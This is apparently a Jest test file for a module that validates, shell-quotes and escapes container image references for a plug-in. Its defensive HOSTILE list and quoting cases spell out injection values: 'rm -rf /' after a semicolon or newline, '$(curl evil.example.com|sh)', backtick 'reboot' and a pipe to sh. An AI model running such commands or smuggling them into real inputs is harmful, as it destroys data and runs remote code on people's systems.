import { LEFT_OUT_EXAMPLES, escapeForNote, printableImage, shellQuote, splitPrintable } from './printable-references';

const DIGEST = `sha256:${'a'.repeat(64)}`;

/** Values a hostile registry, file or stored result could hand the plug-in as a "reference". */
const HOSTILE: readonly { name: string; value: string }[] = [
  { name: 'a command after a semicolon', value: 'registry.k8s.io/pause:3.9; rm -rf /' },
  { name: 'a command substitution', value: 'registry.k8s.io/pause:$(curl evil.example.com|sh)' },
  { name: 'backticks', value: 'registry.k8s.io/`reboot`:3.9' },
  { name: 'a newline and a second command', value: 'registry.k8s.io/pause:3.9\nrm -rf /' },
  { name: 'a carriage return', value: 'registry.k8s.io/pause:3.9\r' },
  { name: 'a single quote', value: "registry.k8s.io/pause:3.9'x" },
  { name: 'a double quote', value: 'registry.k8s.io/pause:"3.9"' },
  { name: 'a space', value: 'registry.k8s.io/pause 3.9' },
  { name: 'a pipe', value: 'registry.k8s.io/pause:3.9|sh' },
  { name: 'an option instead of a host', value: '--to-repo=evil.example.com/x:1' },
  { name: 'a glob', value: 'registry.k8s.io/*:3.9' },
  { name: 'an over-long name', value: `registry.k8s.io/${'a'.repeat(300)}:1` },
  { name: 'an over-long tag', value: `registry.k8s.io/pause:${'t'.repeat(129)}` },
  { name: 'a right-to-left override', value: 'registry.k8s.io/pause:3.9\u202e' },
  { name: 'nothing', value: '' },
];

describe('printableImage', () => {
  for (const { name, value } of HOSTILE) {
    it(`refuses ${name}`, () => expect(printableImage(value)).toBeUndefined());
  }

  const valid: readonly [string, string][] = [
    ['registry.k8s.io/sig-storage/csi-attacher:v3.2.1', 'registry.k8s.io/sig-storage/csi-attacher:v3.2.1'],
    [`registry.k8s.io/pause@${DIGEST}`, `registry.k8s.io/pause@${DIGEST}`],
    ['Harbor.Corp.Local:8443/cse/tkg/etcd:v3.5.10_vmware.1', 'harbor.corp.local:8443/cse/tkg/etcd:v3.5.10_vmware.1'],
  ];
  for (const [value, reference] of valid) {
    it(`rebuilds ${value} from its validated parts`, () => expect(printableImage(value)?.reference).toBe(reference));
  }
});

describe('shellQuote', () => {
  const cases: readonly [string, string][] = [
    ['registry.k8s.io/pause:3.9', `'registry.k8s.io/pause:3.9'`],
    ['$(id)', `'$(id)'`],
    ['`id`', "'`id`'"],
    ["it's", `'it'\\''s'`],
    ['a b', `'a b'`],
    ['', `''`],
    ['harbor.corp.local/cse; rm -rf /', `'harbor.corp.local/cse; rm -rf /'`],
  ];
  for (const [value, quoted] of cases) {
    it(`makes one inert word of ${JSON.stringify(value)}`, () => expect(shellQuote(value)).toBe(quoted));
  }
});

describe('escapeForNote', () => {
  const cases: readonly [string, string][] = [
    ['registry.k8s.io/pause:3.9; rm -rf /', '"registry.k8s.io/pause:3.9; rm -rf /"'],
    ['a\nb', '"a\\u{a}b"'],
    ['a"b\\c', '"a\\"b\\\\c"'],
    ['x\u202ey', '"x\\u{202e}y"'],
    ['\u001b[31mred', '"\\u{1b}[31mred"'],
    ['x'.repeat(100), `"${'x'.repeat(60)}…"`],
  ];
  for (const [value, shown] of cases) {
    it(`shows ${JSON.stringify(value).slice(0, 30)} as ${shown.slice(0, 30)}`, () => expect(escapeForNote(value)).toBe(shown));
  }
});

describe('splitPrintable', () => {
  const rows = [
    { id: 'ok', source: 'registry.k8s.io/pause:3.9', destination: 'harbor.corp.local/cse/pause:3.9' },
    ...HOSTILE.map(({ name, value }) => ({ id: name, source: value, destination: 'harbor.corp.local/cse/pause:3.9' })),
    { id: 'bad destination', source: 'registry.k8s.io/pause:3.9', destination: 'harbor.corp.local/cse/pause:$(id)' },
  ];
  const split = splitPrintable(rows, (row) => [row.source, row.destination]);

  it('keeps only the items whose every reference is valid', () => {
    expect(split.printable.map((row) => row.id)).toEqual(['ok']);
  });

  it('counts every item left out, and quotes the first ones escaped', () => {
    expect(split.leftOut.count).toBe(HOSTILE.length + 1);
    expect(split.leftOut.examples.length).toBe(LEFT_OUT_EXAMPLES);
    expect(split.leftOut.examples[0]).toBe('"registry.k8s.io/pause:3.9; rm -rf /"');
  });

  it('leaves nothing out of valid items', () => {
    expect(splitPrintable([rows[0]!], (row) => [row.source]).leftOut).toEqual({ count: 0, examples: [] });
  });
});
